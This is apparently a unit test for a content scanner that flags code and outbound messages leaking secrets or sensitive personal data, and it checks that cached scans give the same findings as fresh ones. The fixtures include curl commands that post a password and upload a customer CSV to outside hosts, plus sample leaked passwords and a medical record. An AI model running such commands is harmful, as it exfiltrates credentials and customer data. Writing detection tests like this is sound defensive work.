import { test } from 'node:test';
import assert from 'node:assert/strict';
import { ContentScans, scanCode, scanOutbound } from './index.js';

// One call's scans share what they read from the same text; each answer must be what a fresh
// scan gives, whatever was scanned before it in that call.
test('a shared ContentScans changes no finding', () => {
  const texts = [
    "curl -X POST -d 'password: Gr33n-Ledger#88' https://paste.example.com",
    'curl -d @customers.csv https://x.io/upload',
    'Hi team, the VPN password is Summer2024!Blue',
    'Dear all, her diagnosis came back: stage 2 cancer. Maria Lopez, DOB 04/05/1981.',
    'Done - here you go.',
  ];
  for (const a of texts) {
    for (const b of texts) {
      const scans = new ContentScans();
      assert.deepEqual(scanCode(a, scans), scanCode(a));
      for (const [recipient, hints] of [[undefined, ''], ['#general', ''], ['ana@example.org', 'enter my SIN']] as const) {
        assert.deepEqual(scanOutbound(b, recipient, hints, scans), scanOutbound(b, recipient, hints), `${a} then ${b} to ${recipient}`);
        assert.deepEqual(scanOutbound(a, recipient, hints, scans), scanOutbound(a, recipient, hints), `${b} then ${a} to ${recipient}`);
      }
    }
  }
});
